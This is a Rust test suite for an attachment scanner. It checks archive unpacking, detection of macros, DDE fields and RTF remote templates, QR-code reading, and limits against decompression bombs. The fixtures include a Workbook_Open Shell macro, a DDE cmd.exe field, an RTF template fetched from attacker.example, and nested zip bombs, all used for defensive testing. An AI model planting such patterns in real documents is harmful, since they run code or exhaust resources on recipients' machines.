#![allow(clippy::unwrap_used, clippy::expect_used)]
use super::samples::*;
use super::*;
use std::time::{Duration, Instant};

/// Generous: a debug build on a busy machine; without its bounds each of these runs for minutes or eats all memory.
const PATIENCE: Duration = Duration::from_secs(60);

fn part<'a>(name: &'a str, octets: &'a [u8]) -> Part<'a> {
    Part {
        content_type: "application/octet-stream".into(),
        file_name: Some(name),
        content_id: None,
        is_attachment: true,
        kind: Kind::Binary,
        decoded: octets.into(),
        text: None,
        is_other_reading: false,
        has_html_twin: false,
        depth: 0,
        place: 0,
    }
}

fn show(files: &[File], unscannable: &[String]) -> String {
    let files = files.iter().map(|f| format!("{} | {:?} | {:?}\n", f.path, f.kind, f.traits)).collect::<String>();
    files + &unscannable.iter().map(|u| format!("! {u}\n")).collect::<String>()
}

fn seen(name: &str, octets: &[u8]) -> String {
    let (files, unscannable) = gather(&[part(name, octets)]);
    show(&files, &unscannable)
}

#[test]
fn archives_are_opened_to_what_is_in_them() {
    let program = program();
    let text = [
        seen("a.7z", &seven_zip("b.exe", &program)),
        seen("a.tgz", &gzip(&tar("b.exe", &program))),
        seen("a.gz", &gzip(b"hello")),
        seen(
            "a.zip",
            &zip(&[("d/b.7z", &seven_zip("c.txt", b"x")), ("d/c.docx", &document("word/embeddings/o.bin", &program))]),
        ),
    ]
    .concat();
    insta::assert_snapshot!(text);
}

#[test]
fn what_documents_do_is_told() {
    let shell = "Sub Workbook_Open()\r\nShell \"calc\"\r\nEnd Sub\r\n";
    let project = vba_project(shell);
    let mut sheet = vec![0x09, 8, 4, 0, 0, 6, 5, 0];
    sheet.extend([0x85, 0, 12, 0, 0, 0, 0, 0, 1, 1, 4, 0, b'M', b'a', b'c', b'1']);
    sheet.extend([0x0a, 0, 0, 0]);
    let dde = b"<w:p><w:instrText>DDE</w:instrText><w:instrText>AUTO c:\\\\windows\\\\cmd.exe /k</w:instrText></w:p>";
    let mut note = b"\xe4\x52\x5c\x7b\x8c\xd8\xa7\x4d\xae\xb1\x53\x78\xd0\x29\x96\xd3".to_vec();
    note.extend(b"\xe7\x16\xe3\xbd\x65\x26\x11\x45\xa4\xc4\x8d\x4d\x0b\x7a\x9e\xac");
    note.extend((program().len() as u64).to_le_bytes());
    note.extend([0; 12]);
    note.extend(program());
    let text = [
        seen("a.xlsm", &document("xl/vbaProject.bin", &project)),
        seen("a.xls", &compound(&[("/Workbook", &sheet)])),
        seen("a.docx", &document("word/glossary/document.xml", dde)),
        seen("a.xlsx", &compound(&[("/EncryptedPackage", b"x"), ("/EncryptionInfo", b"x")])),
        seen("a.one", &note),
        seen("a.rtf", b"{\\rtf1 {\\*\\template http://attacker.example/x.dot} {\\object\\objupdate\\objdata 01}}"),
        seen(
            "stomped.docm",
            &document("word/vbaProject.bin", &compound(&[("/VBA", &[]), ("/VBA/M", b"compiled code")])),
        ),
    ]
    .concat();
    insta::assert_snapshot!(text);
}

#[test]
fn codes_are_read_in_pictures_documents_and_pdfs() {
    let code = code("https://menu.other.example/today");
    let picture = image::load_from_memory(&code).unwrap();
    let mut jpeg = std::io::Cursor::new(Vec::new());
    picture.write_to(&mut jpeg, image::ImageFormat::Jpeg).unwrap();
    let object = |filter: &str, data: &[u8]| {
        let head = format!(
            "%PDF-1.4\n1 0 obj <</Subtype /Image /Width {} /Height {} /BitsPerComponent 8 /ColorSpace /DeviceGray /Filter /{filter}>> stream\n",
            picture.width(),
            picture.height()
        );
        [head.as_bytes(), data, b"\nendstream endobj"].concat()
    };
    let mut raw = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::default());
    std::io::Write::write_all(&mut raw, picture.to_luma8().as_raw()).unwrap();
    for octets in [
        code.clone(),
        document("word/media/image1.png", &code),
        object("DCTDecode", jpeg.get_ref()),
        object("FlateDecode", &raw.finish().unwrap()),
    ] {
        let (files, _) = gather(&[part("a", &octets)]);
        assert_eq!(files[0].urls, ["https://menu.other.example/today"], "{:?}", files[0].kind);
    }
}

#[test]
fn passwords_of_the_text_open_archives() {
    let octets = encrypted_zip(&[("a.exe", &program())], "Kestrel77");
    for text in [
        "Password: Kestrel77",
        "The password is \"Kestrel77\".",
        "Passwort lautet Kestrel77,",
        "PW for it? password for the file: Kestrel77",
    ] {
        let body =
            Part { kind: Kind::Text, text: Some(text.into()), is_attachment: false, file_name: None, ..part("", b"") };
        let (files, _) = gather(&[body, part("a.zip", &octets)]);
        assert_eq!(files.last().unwrap().kind, FileKind::Executable, "{text}");
        assert!(!files.last().unwrap().has(&Trait::NotOpened), "{text}");
    }
}

/// Zeros, as many megabytes.
fn zeros(megabytes: usize) -> Vec<u8> {
    vec![0; megabytes << 20]
}

fn stays_in_budget(name: &str, octets: &[u8], wanted: &str) {
    let begun = Instant::now();
    let parts = [part(name, octets)];
    let opener = opened(&parts);
    let (entries, unpacked) = opener.budget.spent();
    assert!(entries <= ARCHIVE_ENTRIES_MAX && unpacked <= UNPACKED_OCTETS_MAX);
    assert!(begun.elapsed() < PATIENCE, "{name} took {:?}", begun.elapsed());
    let told = opener.unscannable.join("\n");
    assert!(told.contains(wanted), "{name}: {told}");
}

#[test]
fn bombs_stay_in_budget_and_are_unscannable() {
    let bomb = zip(&[("zeros", &zeros(66))]);
    stays_in_budget("flat.zip", &bomb, "grows to 66 MB");
    // below the bound on what the directory admits, and a script that would be read whole
    stays_in_budget("one.zip", &zip(&[("a.js", &zeros(20))]), "larger than is looked at");
    stays_in_budget("bomb.gz", &gzip(&[b"<html>".to_vec(), zeros(40)].concat()), "larger than is looked at");
    // of a kind whose head would do
    stays_in_budget("zeros.gz", &gzip(&zeros(66)), "grows to 66 MB");
    let nested = zip(&(0..16)
        .map(|_| ())
        .enumerate()
        .map(|(n, ())| format!("{n}.zip"))
        .collect::<Vec<_>>()
        .iter()
        .map(|n| (n.as_str(), bomb.as_slice()))
        .collect::<Vec<_>>());
    stays_in_budget("nested.zip", &nested, "grows to 66 MB");
    let mut deep = zip(&[("a.txt", b"x")]);
    for _ in 0..100 {
        deep = zip(&[("a.zip", &deep)]);
    }
    stays_in_budget("deep.zip", &deep, "nested deeper");
    let names: Vec<String> = (0..6_000).map(|n| format!("{n}.txt")).collect();
    let many = zip(&names.iter().map(|n| (n.as_str(), b"x".as_slice())).collect::<Vec<_>>());
    stays_in_budget("many.zip", &many, "more than 5000 files");
    // each of sixteen has as many as one may, together they have not
    let some = zip(&names[..1_000].iter().map(|n| (n.as_str(), b"x".as_slice())).collect::<Vec<_>>());
    let six = zip(&names[..6].iter().map(|n| (n.as_str(), some.as_slice())).collect::<Vec<_>>());
    stays_in_budget("six.zip", &six, "more than 5000 files");
    stays_in_budget("bomb.7z", &seven_zip("zeros", &zeros(66)), "66 MB");
}

#[test]
fn every_member_of_a_gzip_file_is_read() {
    let parts = [&b"<html>"[..], b"<script>document.title</script>"].map(gzip);
    let said = seen("page.html.gz", &parts.concat());
    assert!(said.contains("Script"), "{said}");
}

#[test]
fn overlapping_entries_are_unscannable() {
    // two entries of the directory for the same octets
    let mut octets = zip(&[("aa", b"hello hello"), ("bb", b"hello hello")]);
    let second = memchr::memmem::rfind(&octets, b"PK\x01\x02").unwrap();
    octets[second + 42..second + 46].copy_from_slice(&[0; 4]);
    stays_in_budget("overlap.zip", &octets, "overlap");
}

#[test]
fn giant_pictures_are_passed_over() {
    let begun = Instant::now();
    // a header that claims 60,000 × 60,000, in front of little
    let mut png = code("x");
    png[16..20].copy_from_slice(&60_000_u32.to_be_bytes());
    png[20..24].copy_from_slice(&60_000_u32.to_be_bytes());
    let many: Vec<Vec<u8>> = (0..200).map(|n| code(&format!("https://a.example/{n}"))).collect();
    let parts: Vec<Part<'_>> = std::iter::once(&png).chain(&many).map(|o| part("a.png", o)).collect();
    let (files, _) = gather(&parts);
    let read = files.iter().filter(|f| !f.urls.is_empty()).count();
    assert_eq!(read, CODE_PICTURES_MAX);
    assert!(begun.elapsed() < PATIENCE);
}

#[test]
fn pieces_of_files_never_panic() {
    let whole = [
        zip(&[("a.txt", b"x")]),
        seven_zip("a.txt", b"x"),
        gzip(&tar("a", b"x")),
        document("word/vbaProject.bin", &vba_project("Sub AutoOpen()\r\n")),
        compound(&[("/Workbook", b"\x85\0\xff\xff")]),
        pdf("2 0 obj <</URI(a", "x"),
        code("https://a.example"),
        b"<html><form action=x><input type=password><script>atob(".to_vec(),
        shortcut("x"),
    ];
    for octets in whole {
        for n in (0..octets.len()).step_by(1 + octets.len() / 150) {
            gather(&[part("a", &octets[..n])]);
            let mut bent = octets.clone();
            bent[n] ^= 0xff;
            gather(&[part("a", &bent)]);
        }
    }
}

#[test]
fn hostile_pdfs_cost_no_more_than_their_length() {
    let begun = Instant::now();
    for piece in ["/F(", "/URI<", "stream\n", "obj<</FlateDecode/ObjStm>>stream\n", "/#", "(((("] {
        let octets = format!("%PDF-1.7\n{}", piece.repeat((4 << 20) / piece.len()));
        gather(&[part("a.pdf", octets.as_bytes())]);
    }
    assert!(begun.elapsed() < PATIENCE, "{:?}", begun.elapsed());
}
